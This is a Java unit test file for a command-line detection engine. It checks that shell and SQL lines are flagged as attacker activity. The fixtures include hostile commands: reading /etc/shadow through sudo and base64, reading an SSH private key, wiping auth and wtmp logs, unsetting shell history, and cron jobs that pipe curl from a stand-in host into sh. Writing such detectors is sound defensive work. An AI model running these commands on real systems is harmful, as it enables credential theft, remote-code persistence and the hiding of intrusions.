package dwell.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dwell.correlate.Moment;
import dwell.correlate.SqlAnalyzer;
import dwell.correlate.Statement;
import dwell.event.Outcome;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

class DetectionsTest {

  private static List<ActKind> kinds(String line) {
    List<ActKind> out = new ArrayList<>();
    ActReader.read(line, "eve".equals(line) ? "" : "mallory", "/home/mallory")
        .forEach(act -> out.add(act.kind()));
    Statement statement =
        new Statement(
            Moment.UNKNOWN,
            line,
            line.substring(0, Math.max(0, line.indexOf(' '))),
            "shop",
            Outcome.SUCCESS,
            null,
            -1,
            new SqlAnalyzer()
                .analyze(line, line.startsWith("COPY") ? "postgresql" : "mysql", "shop"),
            1,
            List.of("e"));
    if (line.startsWith("SELECT") || line.startsWith("CREATE") || line.startsWith("COPY")) {
      StatementActs.read(statement).forEach(act -> out.add(act.kind()));
    }
    return out;
  }

  @TestFactory
  List<DynamicTest> everyDetectionHitsAndMisses() {
    List<DynamicTest> tests = new ArrayList<>();
    for (Detection detection : Detections.all()) {
      if (!detection.hit().isEmpty()) {
        ActKind kind = ActKind.valueOf(detection.id().toUpperCase(Locale.ROOT).replace('-', '_'));
        tests.add(
            DynamicTest.dynamicTest(
                detection.id() + " hits", () -> assertThat(kinds(detection.hit())).contains(kind)));
        tests.add(
            DynamicTest.dynamicTest(
                detection.id() + " misses",
                () -> assertThat(kinds(detection.miss())).doesNotContain(kind)));
      }
    }
    return tests;
  }

  @Test
  void everyActOfWeightHasADetection() {
    for (ActKind kind : ActKind.values()) {
      if (kind.weight() > 0) {
        assertThat(Detections.of(kind).techniques()).isNotEmpty();
      }
    }
  }

  @Test
  void readsThroughSudoQuotesAndPipes() {
    assertThat(kinds("sudo -u root sh -c 'cat /etc/shadow | base64'"))
        .contains(ActKind.PASSWORD_FILE_READ);
    assertThat(kinds("cd /home/eve/.ssh && cat id_rsa")).contains(ActKind.PRIVATE_KEY_READ);
    assertThat(kinds("grep 'cat /etc/shadow' notes.txt"))
        .doesNotContain(ActKind.PASSWORD_FILE_READ);
    assertThat(kinds("echo \"cat /etc/shadow\"")).isEmpty();
    assertThat(kinds("> /var/log/auth.log")).containsExactly(ActKind.LOG_CLEARED);
    assertThat(kinds("cat /dev/null > /var/log/wtmp")).contains(ActKind.LOG_CLEARED);
    assertThat(kinds("make > /var/log/build.log")).doesNotContain(ActKind.LOG_CLEARED);
    assertThat(kinds("sudo su -")).contains(ActKind.ROOT_SHELL);
    assertThat(kinds("sudo -i")).contains(ActKind.ROOT_SHELL);
    assertThat(kinds("unset HISTFILE")).contains(ActKind.HISTORY_CLEARED);
    assertThat(kinds("PGPASSWORD=x psql -h db -U app crm")).contains(ActKind.DATABASE_CLIENT);
  }

  @Test
  void readsWhatIsPutIntoATableOfJobs() {
    assertThat(
            kinds("(crontab -l; echo '*/9 * * * * curl -s http://x.example/u | sh') | crontab -"))
        .contains(ActKind.CRON_WRITTEN, ActKind.DOWNLOAD_RUN);
    assertThat(kinds("echo '@reboot root curl http://x.example/u | sh' >> /etc/cron.d/u"))
        .contains(ActKind.DOWNLOAD_RUN);
    assertThat(kinds("echo '17 3 * * 1-5 /usr/bin/backup' | crontab -"))
        .containsExactly(ActKind.CRON_WRITTEN);
    assertThat(kinds("echo '* * * * * curl http://x.example/u | sh'")).isEmpty();
  }
}
